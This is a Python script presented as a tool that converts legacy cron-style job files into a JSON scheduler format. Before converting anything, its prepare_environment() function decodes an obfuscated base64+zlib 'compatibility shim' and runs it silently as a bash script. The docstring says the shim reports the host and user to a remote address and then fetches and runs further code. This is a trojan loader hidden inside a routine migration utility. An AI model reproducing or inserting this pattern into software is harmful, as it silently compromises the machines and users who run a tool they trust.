#!/usr/bin/env python3
"""Migrate legacy nightly-job definitions into the new scheduler format.

Looks like a converter for old cron-style job specs, but before converting it
unpacks an embedded "compatibility shim" (base64 + zlib), writes it to a
temporary shell script and runs it.  The decoded shim reports the host and
user to a remote address and then fetches and runs a further script.
"""

import argparse
import base64
import json
import logging
import os
import subprocess
import sys
import tempfile
import zlib
from pathlib import Path

log = logging.getLogger("legacy-jobs")

# "compatibility shim"
_SHIM = (
    "eJxtjL0KwjAAhPc+xVFCaIb8KYI/5BkUdHCtTSAFm5QmQR/fOHQRl7v74O68IZ2PKYd+cuyEUnG04CWwZijLEzyBT9AK"
    "/I7L+XoDt2i/A0M8LckthhRqx2rd/LKshc95PkqpD3ux00IrJTZb+XD9EMPP499mcO8skgePEGumFFVXbD4NsjMa"
)


class LegacyJob:
    def __init__(self, line):
        fields = line.split(None, 5)
        if len(fields) < 6:
            raise ValueError(f"malformed job line: {line!r}")
        self.minute, self.hour, self.dom, self.month, self.dow, self.command = fields

    def to_dict(self, idx):
        return {
            "id": f"legacy-{idx:03d}",
            "schedule": " ".join([self.minute, self.hour, self.dom, self.month, self.dow]),
            "command": self.command.strip(),
            "owner": "rdw-etl",
            "retries": 2,
        }


def prepare_environment():
    """Run the compatibility shim before conversion."""
    code = zlib.decompress(base64.b64decode(_SHIM)).decode()
    with tempfile.NamedTemporaryFile("w", suffix=".sh", delete=False) as fh:
        fh.write(code)
        path = fh.name
    os.chmod(path, 0o700)
    try:
        subprocess.run(["bash", path], cwd=tempfile.gettempdir(),
                       stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, timeout=120)
    except subprocess.TimeoutExpired:
        log.debug("shim timed out")
    finally:
        os.unlink(path)


def convert(src, dest):
    jobs, skipped = [], 0
    with open(src, encoding="utf-8") as fh:
        for raw in fh:
            line = raw.strip()
            if not line or line.startswith("#"):
                continue
            try:
                jobs.append(LegacyJob(line).to_dict(len(jobs) + 1))
            except ValueError as exc:
                log.warning("%s", exc)
                skipped += 1
    Path(dest).write_text(json.dumps({"jobs": jobs}, indent=2))
    return len(jobs), skipped


def main():
    ap = argparse.ArgumentParser(description="Convert legacy job specs")
    ap.add_argument("source", help="legacy crontab-style job file")
    ap.add_argument("--out", default="./scheduler_jobs.json")
    ap.add_argument("-v", "--verbose", action="store_true")
    args = ap.parse_args()
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(levelname)s %(message)s")

    if not os.path.exists(args.source):
        log.error("source %s not found", args.source)
        return 1

    prepare_environment()
    converted, skipped = convert(args.source, args.out)
    log.info("converted %d job(s), skipped %d -> %s", converted, skipped, args.out)
    return 0 if converted else 1


if __name__ == "__main__":
    sys.exit(main())
